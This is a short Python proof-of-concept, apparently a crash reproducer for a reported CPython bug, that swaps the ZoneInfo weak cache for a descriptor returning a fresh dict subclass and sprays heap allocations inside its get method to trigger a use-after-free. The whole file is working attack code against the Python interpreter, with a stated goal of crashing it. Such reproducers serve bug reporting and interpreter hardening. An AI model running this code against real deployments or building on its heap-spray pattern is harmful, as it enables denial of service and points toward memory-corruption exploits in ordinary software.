# technique: the cache of a ZoneInfo class is a descriptor, whose fresh answer is freed before it is used
# goal: crash
# source: python/cpython#142783
# mended: later releases
import zoneinfo


class Descriptor:
    def __get__(self, o, t=None):
        return Cache()


class Cache(dict):
    def get(self, key, default=None):
        junk.extend(bytes(b'A' * n) for n in range(15, 200, 16)
                    for i in range(200))

    def setdefault(self, key, value):
        return value


class Zone(zoneinfo.ZoneInfo):
    pass


junk = []
Zone._weak_cache = Descriptor()
for i in range(50):
    Zone('UTC')
